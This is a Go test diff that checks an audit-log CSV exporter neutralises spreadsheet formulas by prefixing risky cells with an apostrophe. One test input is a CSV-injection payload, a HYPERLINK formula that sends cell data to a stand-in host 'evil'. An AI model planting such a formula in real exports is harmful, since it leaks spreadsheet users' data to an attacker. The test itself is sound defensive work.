@@ -108,3 +108,42 @@ func BenchmarkAppendAuditDetail(b *testing.B) {
 		buf = AppendAuditDetail(buf[:0], &e)
 	}
 }
+
+// TestCSVCellsAreNeverFormulas: every client-chosen column that starts like
+// a spreadsheet formula reads back (with encoding/csv) with a leading "'",
+// and nothing else changes (spec/API.md 3.3).
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
+		{"=1+2", "'=1+2"},
+		{"+1", "'+1"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tcmd", "'\tcmd"},
+		{"\r=1", "'\r=1"},
+		{"=a,b", "'=a,b"},
+		{"plain", "plain"},
+		{"a=b", "a=b"},
+		{" =x", " =x"},
+		{"", ""},
+	} {
+		t.Run(tc.in, func(t *testing.T) {
+			e := store.Event{ID: tc.in, EntityKind: tc.in, EntityID: tc.in, Message: tc.in,
+				Principal: json.RawMessage(tc.in), PreviousState: json.RawMessage(tc.in), CurrentState: json.RawMessage(tc.in)}
+			row := AppendCSVRow(nil, &e)
+			r := csv.NewReader(bytes.NewReader(row))
+			r.LazyQuotes = false
+			rec, err := r.Read()
+			if err != nil {
+				t.Fatalf("read back %q: %v", row, err)
+			}
+			// encoding/csv reads a quoted CR as part of the field, an
+			// unquoted leading one is not possible (it would be quoted).
+			for i, col := range []int{0, 1, 2, 4, 5, 6, 7} {
+				if rec[col] != tc.want {
+					t.Errorf("column %d (#%d) = %q, want %q (row %q)", col, i, rec[col], tc.want, row)
+				}
+			}
+		})
+	}
+}
